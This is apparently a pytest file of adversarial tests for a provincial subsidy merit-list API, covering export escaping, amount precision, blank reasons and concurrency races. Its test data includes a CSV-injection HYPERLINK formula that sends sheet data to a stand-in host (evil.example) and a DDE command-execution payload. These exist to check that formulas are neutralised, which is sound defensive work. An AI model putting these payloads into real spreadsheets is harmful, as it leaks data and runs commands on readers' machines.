"""Adversary: the province's merit list (择优奖补名单) through HTTP, on the time-skipping
dev server and PostgreSQL, with entries and texts its author did not think of: formula
texts in the exports, amounts finer than a fen, blank reasons, a recipient outside the
consortium, and two lists decided at once."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from datetime import datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

import services.award_list
from domain.batch import BatchPolicy, ConsortiumMember
from domain.clock import SHANGHAI
from domain.decisions import Actor
from domain.eligibility import ApplicationFacts
from domain.roles import Role
from models import AwardListRow
from services.projects import start_project
from services.registry import ensure_batch, ensure_unit, register_project
from tests import support
from tests.api_support import Caller, token
from tests.driver import Drive, Harness, next_close
from tests.test_api_award_list import records, to_subsidy

# What a spreadsheet reads as a formula when a cell starts with it (OWASP: CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"查看附件")'


def new_batch(ts: Harness, *cities: str) -> BatchPolicy:
    b = support.batch("2026", next_close(datetime.now(SHANGHAI)),
                      batch_id=f"adv-award-{uuid.uuid4().hex[:6]}")
    with ts.db.begin() as s:
        ensure_batch(s, b, support.tasks_2026(), {c: 20 for c in (support.CITY, *cities)})
    return b


async def start_in(ts: Harness, b: BatchPolicy, city: str, county: str, title: str) -> Drive:
    """Drive.start for a project of another city, with its own title (what an applicant
    types in POST /projects: any text of 2 to 200 characters)."""
    lead = support.unit("service_provider", region=county)
    scene = support.unit("manufacturer", region=county)
    start = datetime.now(SHANGHAI).date() + timedelta(days=1)
    application = ApplicationFacts(
        declared_investment_cny=2_000_000, implementation_region=county,
        implementation_start=start, implementation_end=start + timedelta(days=300))
    project = support.project(b).model_copy(update={
        "city_code": city, "county_code": county, "title": title,
        "applicant_unit": lead.credit_code, "application": application,
        "consortium": [ConsortiumMember(credit_code=lead.credit_code, name=lead.name,
                                        role="lead"),
                       ConsortiumMember(credit_code=scene.credit_code, name=scene.name,
                                        role="scene")]})
    with ts.db.begin() as s:
        ensure_unit(s, lead)
        ensure_unit(s, scene)
        register_project(s, project, application)
    d = Drive(ts.env, project, await start_project(ts.env.client, project, ts.queue))
    d.actors[Role.COUNTY] = Actor(user_id=f"county-{county}", role=Role.COUNTY, region=county)
    d.actors[Role.CITY] = Actor(user_id=f"city-{city}", role=Role.CITY, region=city)
    d.actors[Role.CITY_FINANCE] = Actor(user_id=f"cityfin-{city}", role=Role.CITY_FINANCE,
                                        region=city)
    return d


def award(pid: str, rank: int, amount: float, **kw: Any) -> dict[str, Any]:
    return {"project_id": pid, "rank": rank, "amount_cny": amount, **kw}


def csv_rows(r: httpx.Response) -> list[list[str]]:
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))


def formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


async def test_texts_in_the_exports_are_never_formulas(
    ts: Harness, http: httpx.AsyncClient,
) -> None:
    """An applicant's title, the province's reasons: a cell starting with =, +, -, @ is a
    formula to Excel and WPS (HYPERLINK and WEBSERVICE send the sheet's data out; DDE
    runs commands). The award list's CSV and the batch's other exports kept them as they
    were; the XLSX 推荐汇总表 even wrote the title as a formula."""
    b = new_batch(ts, "3702")
    plain = await ts.start(batch=b)
    evil = await start_in(ts, b, "3702", "370202", EVIL_TITLE)
    await asyncio.gather(to_subsidy(plain, 1, 900_000), to_subsidy(evil, 1, 900_000))
    A, C = plain.project.project_id, evil.project.project_id

    province = Caller(http, token("province", f"prov-{uuid.uuid4().hex[:6]}"))
    url = f"/batches/{b.batch_id}/award-list"
    r = await province.post(url, {
        "awards": [award(C, 1, 500_000)],
        "no_awards": [{"project_id": A, "reason": "@SUM(1+1)*cmd|' /C calc'!A0"}],
        "reason": "-1+1 省级评审会议择优确定"}, key=f"evil-{b.batch_id}")
    assert r.status_code == 200 and all(x["ok"] for x in r.json()["results"]), r.text

    rows = csv_rows(await province.get(f"{url}.csv"))
    assert len(rows) == 3 and formulas(rows) == [], formulas(rows)
    # The text is kept, readable, behind the apostrophe spreadsheets show as text.
    assert f"'{EVIL_TITLE}" in rows[1] + rows[2]
    # Another city's official sees only their own entry, and no formula either.
    qingdao = Caller(http, token("city", "city-qd-adv", "3702"))
    theirs = csv_rows(await qingdao.get(f"{url}.csv"))
    assert [row[3] for row in theirs[1:]] == [C] and formulas(theirs) == []
    jinan = Caller(http, token("city", "city-jn-adv", support.CITY))
    assert [row[3] for row in csv_rows(await jinan.get(f"{url}.csv"))[1:]] == [A]

    for export in ("results.csv", "ranking.csv", "announcement.csv"):
        rows = csv_rows(await province.get(f"/batches/{b.batch_id}/{export}"))
        assert formulas(rows) == [], (export, formulas(rows))
    r = await province.get(f"/batches/{b.batch_id}/recommendation-summary.xlsx",
                           params={"city_code": "3702"})
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert EVIL_TITLE in [c.value for c in cells]
    assert [c.value for c in cells if c.data_type == "f"] == []


async def test_amounts_finer_than_a_fen_and_blank_reasons_are_refused_whole(
    ts: Harness, http: httpx.AsyncClient,
) -> None:
    """An award of 0.004 CNY (or 1e-9) was decided, and the CSV showed 0.00: the export
    no longer equalled the decision. A list whose reason is only spaces was decided with
    no reason. Each is refused whole, naming the entry, and changes nothing."""
    b = new_batch(ts)
    drives = [await ts.start(batch=b) for _ in range(2)]
    await asyncio.gather(*(to_subsidy(d, i, 900_000) for i, d in enumerate(drives, 1)))
    A, B = (d.project.project_id for d in drives)
    province = Caller(http, token("province", f"prov-{uuid.uuid4().hex[:6]}"))
    url = f"/batches/{b.batch_id}/award-list"
    before = records(ts, [A, B])

    for body in (
        {"awards": [award(A, 1, 0.004)], "reason": "择优"},
        {"awards": [award(A, 1, 1e-9)], "reason": "择优"},
        {"awards": [award(A, 1, 500_000), award(B, 2, 300_000.125)], "reason": "择优"},
        {"awards": [award(A, 1, 500_000)], "reason": "   "},
        {"awards": [award(A, 1, 500_000)], "reason": "\u3000\u3000"},  # ideographic spaces
        {"no_awards": [{"project_id": B, "reason": " \t "}], "reason": "择优"},
    ):
        r = await province.post(url, body, key=f"bad-{uuid.uuid4().hex[:8]}")
        assert r.status_code == 422 and r.json()["rule"] in ("INPUT", "R17"), (body, r.text)
        assert r.json()["message_zh"] and r.json()["message_en"]
    assert records(ts, [A, B]) == before
    with ts.db() as s:
        assert s.scalar(select(func.count()).select_from(AwardListRow).where(
            AwardListRow.batch_id == b.batch_id)) == 0

    # Fen are amounts: decided, and the CSV says exactly what was decided.
    r = await province.post(url, {"awards": [award(A, 1, 500_000.5), award(B, 2, 0.01)],
                                  "reason": "择优"}, key=f"good-{b.batch_id}")
    assert r.status_code == 200 and all(x["ok"] for x in r.json()["results"]), r.text
    rows = csv_rows(await province.get(f"{url}.csv"))
    assert [(row[3], row[8]) for row in rows[1:]] == [(A, "500000.50"), (B, "0.01")]
    for pid, amount in ((A, 500_000.5), (B, 0.01)):
        last = (await province.get(f"/projects/{pid}")).json()["decisions"][-1]
        assert last["action"] == "decide_subsidy" and last["payload"]["amount_cny"] == amount


@pytest.mark.xfail(strict=True, reason=(
    "R17 says the subsidy goes to the service provider; the recipient of an award (on the "
    "merit list and in a single decide_subsidy) is any text of up to 18 characters: not "
    "checked as a credit code (R4), nor as a member of the project's consortium. A fix in "
    "the workflow's check is a rules change (a new rules version or a patch); the list "
    "alone could check the consortium from the read model"))
async def test_an_award_to_a_unit_outside_the_consortium_is_refused(
    ts: Harness, http: httpx.AsyncClient,
) -> None:
    b = new_batch(ts)
    d = await ts.start(batch=b)
    await to_subsidy(d, 1, 900_000)
    pid = d.project.project_id
    province = Caller(http, token("province", f"prov-{uuid.uuid4().hex[:6]}"))
    before = records(ts, [pid])
    stranger = support.credit_code("370202")  # a valid code, of no member
    for recipient in ("x", stranger):
        r = await province.post(f"/batches/{b.batch_id}/award-list", {
            "awards": [award(pid, 1, 500_000, recipient=recipient)], "reason": "择优"},
            key=f"who-{uuid.uuid4().hex[:8]}")
        assert r.status_code in (409, 422), (recipient, r.text)
    assert records(ts, [pid]) == before


@pytest.mark.xfail(strict=True, reason=(
    "Two lists at once: the list's candidates are asked of the workflows before the "
    "batch's lock is taken (services/award_list.py: _candidates, then _record), so a list "
    "whose candidates were read before another list decided is judged on stale answers: "
    "it is accepted (200), its entry for the project the other list decided is refused by "
    "the workflow, its other entries decided, and the batch's ranks have a gap. Fix: under "
    "the lock, refuse projects on another list still being decided (ok is NULL) and ask "
    "the workflows after taking it"))
async def test_two_lists_at_once_for_the_same_project_do_not_both_pass(
    ts: Harness, http: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The later list reads its candidates (A undecided), then the earlier list decides A
    (rank 1, awaiting co-signature) while the later one waits for the batch's lock. The
    later list ([A 2, B 3]) must be refused whole; it was accepted with A refused by the
    workflow and B decided at rank 3, so the batch's ranks run 1, 3."""
    b = new_batch(ts)
    drives = [await ts.start(batch=b) for _ in range(2)]
    await asyncio.gather(*(to_subsidy(d, i, 900_000) for i, d in enumerate(drives, 1)))
    A, B = (d.project.project_id for d in drives)
    url = f"/batches/{b.batch_id}/award-list"
    first = Caller(http, token("province", "prov-first"))
    later = Caller(http, token("province", "prov-later"))

    read = asyncio.Event()
    first_done = asyncio.Event()
    real = services.award_list._candidates

    async def candidates_then_wait(*args: Any, **kw: Any) -> Any:
        out = await real(*args, **kw)
        if args[2].user_id == "prov-later":  # who
            read.set()
            await first_done.wait()
        return out

    monkeypatch.setattr(services.award_list, "_candidates", candidates_then_wait)

    async def post_later() -> httpx.Response:
        return await later.post(url, {"awards": [award(A, 2, 400_000), award(B, 3, 300_000)],
                                      "reason": "第二份名单"}, key="later")

    pending = asyncio.create_task(post_later())
    await read.wait()
    r = await first.post(url, {"awards": [award(A, 1, 500_000)], "reason": "第一份名单"},
                         key="first")
    assert r.status_code == 200 and r.json()["results"][0]["ok"], r.text
    first_done.set()
    second = await pending
    listed = (await first.get(url)).json()
    ranks = sorted(e["rank"] for lst in listed["lists"] for e in lst["entries"]
                   if e["state"] in ("decided", "awaiting_cosign"))
    assert ranks == list(range(1, len(ranks) + 1)), ranks
    assert second.status_code == 409, second.text


@pytest.mark.xfail(strict=True, reason=(
    "A single decide_subsidy may carry any rank (domain.payloads.Subsidy.rank; the lists "
    "do not count it, README), so the committed histories can hold two projects ranked 1 "
    "in one batch, and the award's rank shown with the project (view.award.rank) "
    "contradicts the merit list. Fix: a rank only from the list (refuse it in a single "
    "decision through the API), or judge it against the lists' ranks"))
async def test_a_single_decision_cannot_repeat_a_rank_of_the_merit_list(
    ts: Harness, http: httpx.AsyncClient,
) -> None:
    b = new_batch(ts)
    drives = [await ts.start(batch=b) for _ in range(2)]
    await asyncio.gather(*(to_subsidy(d, i, 900_000) for i, d in enumerate(drives, 1)))
    A, B = (d.project.project_id for d in drives)
    province = Caller(http, token("province", f"prov-{uuid.uuid4().hex[:6]}"))
    r = await province.post(f"/batches/{b.batch_id}/award-list",
                            {"awards": [award(A, 1, 500_000)], "reason": "择优"}, key="list")
    assert r.status_code == 200 and r.json()["results"][0]["ok"], r.text
    before = records(ts, [B])
    r = await province.post(f"/projects/{B}/decisions/decide_subsidy",
                            {"reason": "单独核定", "payload": {"amount_cny": 400_000, "rank": 1}})
    assert r.status_code in (409, 422), r.text
    assert records(ts, [B]) == before
